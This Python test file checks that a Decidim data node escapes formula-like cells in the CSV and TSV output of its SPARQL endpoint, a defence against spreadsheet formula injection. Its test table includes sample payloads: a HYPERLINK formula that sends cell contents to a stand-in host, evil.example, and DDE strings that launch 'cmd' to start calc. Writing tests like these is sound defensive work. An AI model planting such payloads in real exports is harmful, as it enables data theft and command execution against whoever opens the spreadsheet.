"""Spreadsheet formulas (issue 9, item 14): text kept as text, escaped in every CSV written.

Decidim neutralises cells that start like a formula with a leading ``'``; the importer
stores the participant's text without it (the data is text). Every CSV the node writes —
``/sparql`` as ``text/csv`` and TSV, the only ones — escapes such a cell again (OWASP
"CSV Injection"): CSV with a leading ``'``, TSV with a ``\\u`` escape that leaves the
literal unchanged for an RDF reader.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyoxigraph as ox
import pytest

from ddsnode.store.results import CSV, TSV, serialize_solutions, spreadsheet_safe
from tests.support import decidim_variants as variants
from tests.support.inprocess import local_node
from tests.test_decidim_hostile_size import SLUG, run_import

XSD = "http://www.w3.org/2001/XMLSchema#"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'

# (term, what a spreadsheet must get in the CSV cell)
TABLE: list[tuple[ox.NamedNode | ox.Literal | ox.BlankNode, str]] = [
    (ox.Literal(HYPERLINK), "'" + HYPERLINK),
    (ox.Literal("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0"),
    (ox.Literal("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0"),
    (ox.Literal("@SUM(1,1)*cmd|' /C calc'!A0", language="en"), "'@SUM(1,1)*cmd|' /C calc'!A0"),
    (ox.Literal("\t=1+1"), "'\t=1+1"),
    (ox.Literal("\r=1+1"), "'\r=1+1"),
    (ox.Literal("=1+1", datatype=ox.NamedNode(XSD + "integer")), "'=1+1"),  # ill-typed
    (ox.Literal("-5", datatype=ox.NamedNode(XSD + "integer")), "-5"),  # a number stays
    (ox.Literal("+1.5E3", datatype=ox.NamedNode(XSD + "double")), "+1.5E3"),
    (ox.Literal("-PROJ-2025-01-1"), "'-PROJ-2025-01-1"),
    (ox.Literal("plain text, = inside"), "plain text, = inside"),
    (ox.NamedNode("https://node.example/a=b"), "https://node.example/a=b"),
    (ox.BlankNode("b1"), "_:b1"),
]


@pytest.mark.parametrize(("term", "cell"), TABLE, ids=[str(t)[:30] for t, _ in TABLE])
def test_csv_cells_never_start_a_formula(term: ox.NamedNode | ox.Literal | ox.BlankNode,
                                          cell: str) -> None:
    body, _ = serialize_solutions(["v"], [{"v": term}], CSV, 10)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert rows == [["v"], [cell]]


@pytest.mark.parametrize(("term", "cell"), TABLE, ids=[str(t)[:30] for t, _ in TABLE])
def test_tsv_cells_never_start_a_formula_and_keep_the_term(
        term: ox.NamedNode | ox.Literal | ox.BlankNode, cell: str) -> None:
    body, _ = serialize_solutions(["v"], [{"v": term}], TSV, 10)
    text = body.decode("utf-8").split("\n")[1]
    assert text[:1] not in ("=", "+", "-", "@", "\t", "\r")
    if isinstance(term, ox.Literal):
        # a literal a spreadsheet would run starts with an escape (\t, \r, \u003D ...)
        escaped = cell.startswith("'")
        assert (text[1:2] == "\\") == escaped, text
        # ... which is Turtle's (UCHAR, ECHAR): an RDF reader gets the very same literal
        triple = next(ox.parse(f"<http://s> <http://p> {text} .".encode(),
                               format=ox.RdfFormat.N_TRIPLES))
        assert triple.object == term


def test_spreadsheet_safe_is_idempotent_on_its_output_start() -> None:
    assert spreadsheet_safe("'=1") == "'=1"
    assert spreadsheet_safe("") == ""


def test_imported_formula_is_text_and_escaped_in_sparql_csv(tmp_path: Path) -> None:
    folder = tmp_path / "export"
    variants.copy_export(folder, ["proposals"], max_rows=2)
    header, rows = variants.read(folder, "proposals")
    ident = rows[0]["id"]
    rows[0]["title/en"] = "'" + HYPERLINK  # as Decidim writes it (Exporters::CSV#sanitize)
    variants.write(folder, "proposals", header, rows)
    with local_node(tmp_path) as node, node.client() as http:
        report = run_import(node, folder)
        assert report["totals"]["rejected"] == 0
        iri = node.url(f"proposals/{SLUG}-{ident}")
        doc = http.get(iri, headers={"Accept": "application/ld+json"}).json()
        assert doc["title"]["en"] == HYPERLINK  # the participant's text, as text
        query = f"SELECT ?t WHERE {{ <{iri}> <http://purl.org/dc/terms/title> ?t " \
                "FILTER(LANG(?t) = 'en') }"
        got = http.get("sparql", params={"query": query}, headers={"Accept": "text/csv"})
        assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
        cells = list(csv.reader(io.StringIO(got.text, newline="")))
        assert cells == [["t"], ["'" + HYPERLINK]]
        tsv = http.get("sparql", params={"query": query},
                       headers={"Accept": "text/tab-separated-values"})
        assert tsv.status_code == 200
        assert tsv.text.split("\n")[1].startswith('"\\u003DHYPERLINK(')
        # the JSON results keep the value exactly
        js = http.get("sparql", params={"query": query},
                      headers={"Accept": "application/sparql-results+json"}).json()
        assert js["results"]["bindings"][0]["t"]["value"] == HYPERLINK
